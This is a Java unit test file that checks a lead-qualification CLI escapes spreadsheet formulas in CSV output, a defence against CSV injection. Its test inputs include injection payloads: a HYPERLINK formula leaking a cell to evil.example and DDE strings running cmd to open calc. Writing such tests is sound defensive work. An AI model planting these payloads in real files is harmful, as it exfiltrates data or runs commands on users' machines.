package io.github.leadrules.cli;

import io.github.leadrules.cli.io.CsvWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A CSV of decisions is opened by a marketer in a spreadsheet: cells the spreadsheet would run as
 * formulas are written as text by default (OWASP, "CSV Injection"), while phone numbers and
 * negative numbers stay readable.
 */
class FormulaEscapeTest {

    @TempDir
    Path dir;

    @Test
    void cellsStartingWithAFormulaCharacterGetAQuoteInFront() throws IOException {
        assertThat(written("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click for details\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click for details\"\")\"\n");
        assertThat(written("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0\n");
        assertThat(written("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0\n");
        assertThat(written("@SUM(1+1)*cmd|' /C calc'!A0")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0\n");
        assertThat(written("\t=1+1")).isEqualTo("'\t=1+1\n");
        assertThat(written("\r=1+1")).isEqualTo("\"'\r=1+1\"\n");
    }

    @Test
    void phoneNumbersAndNegativeNumbersStayReadable() throws IOException {
        for (String readable : List.of("+81-3-1234-5678", "+1 (415) 555-0100", "-12", "-3.5", "-1,200", "+44 20 7946 0958",
                "-", "03-1234-5678", "株式会社=テスト", "a@b.example")) {
            assertThat(CsvWriter.isFormula(readable)).as(readable).isFalse();
        }
        assertThat(written("+81-3-1234-5678")).isEqualTo("+81-3-1234-5678\n");
        assertThat(written("-3.5")).isEqualTo("-3.5\n");
    }

    @Test
    void aSignFollowedByAnythingButDigitsAndPunctuationIsAFormula() {
        assertThat(CsvWriter.isFormula("-12e3")).isTrue();
        assertThat(CsvWriter.isFormula("+A1")).isTrue();
        assertThat(CsvWriter.isFormula("-SUM(A1:A9)")).isTrue();
        assertThat(CsvWriter.isFormula("+1 (415) 555-0100 ext")).isTrue();
    }

    @Test
    void withEscapingOffEveryCellIsWrittenAsRead() throws IOException {
        StringWriter sw = new StringWriter();
        new CsvWriter(sw, ',', false).write(List.of("=1+1", "@SUM(A1)", "-x"));
        assertThat(sw).hasToString("=1+1,@SUM(A1),-x\n");
    }

    @Test
    void qualifyNeutralisesFormulasInInputCellsByDefaultAndKeepsPhonesAndDecisionsReadable() throws IOException {
        Path input = Cli.write(dir.resolve("form-export.csv"), """
                id,company_name,email,phone,employee_count,country,inquiry_type,job_title
                L-6001,"=HYPERLINK(""http://evil.example"",""Acme"")",emily.smith@acme.example,+1 (415) 555-0100,250,US,demo,@SUM(1+1)
                L-6002,サンプル工業株式会社,taro.sato@sample-kogyo.example,+81-3-1234-5678,1200,日本,デモ依頼,-部長
                """);
        Path out = dir.resolve("decisions.csv");

        Cli.Result result = Cli.qualify(input, "--out", out.toString());

        assertThat(result.exitCode()).as(result.err()).isEqualTo(ExitCodes.OK);
        List<Map<String, String>> rows = Cli.decisions(out);
        assertThat(rows.get(0)).containsEntry("company_name", "'=HYPERLINK(\"http://evil.example\",\"Acme\")")
                .containsEntry("job_title", "'@SUM(1+1)").containsEntry("phone", "+1 (415) 555-0100");
        assertThat(rows.get(1)).containsEntry("job_title", "'-部長").containsEntry("phone", "+81-3-1234-5678")
                .containsEntry("employee_count", "1200");
        assertThat(rows).extracting(r -> r.get("decision_outcome")).containsExactly("QUALIFIED", "QUALIFIED");
    }

    @Test
    void noFormulaEscapeWritesCellsExactlyAsRead() throws IOException {
        Path input = Cli.write(dir.resolve("form-export.csv"), """
                id,company_name,email,employee_count,country,inquiry_type
                L-6001,=1+1,emily.smith@acme.example,250,US,demo
                """);
        Path out = dir.resolve("decisions.csv");

        Cli.Result result = Cli.qualify(input, "--out", out.toString(), "--no-formula-escape");

        assertThat(result.exitCode()).as(result.err()).isEqualTo(ExitCodes.OK);
        assertThat(Cli.decisions(out).get(0)).containsEntry("company_name", "=1+1");
    }

    @Test
    void diffNeutralisesALeadIdThatIsAFormula() throws IOException {
        Path input = Cli.write(dir.resolve("leads.csv"), """
                id,company_name,email,employee_count,country,inquiry_type
                =cmd|' /C calc'!A0,Tiny Design LLC,aya.kato@tiny-design.example,5,US,demo
                """);
        Path changed = dir.resolve("changed.csv");

        Cli.Result result = Cli.run("diff", input.toString(), "--as-of", Cli.AS_OF, "--disable-rule", "EXC-TOO-SMALL",
                "--out", changed.toString());

        assertThat(result.exitCode()).as(result.err()).isEqualTo(ExitCodes.OK);
        assertThat(Cli.decisions(changed)).singleElement().satisfies(r -> assertThat(r.get("lead_id")).isEqualTo("'=cmd|' /C calc'!A0"));
        assertThat(Files.readString(changed)).doesNotContain(",=cmd");
    }

    private static String written(String cell) throws IOException {
        StringWriter sw = new StringWriter();
        new CsvWriter(sw, ',').write(List.of(cell));
        return sw.toString();
    }
}
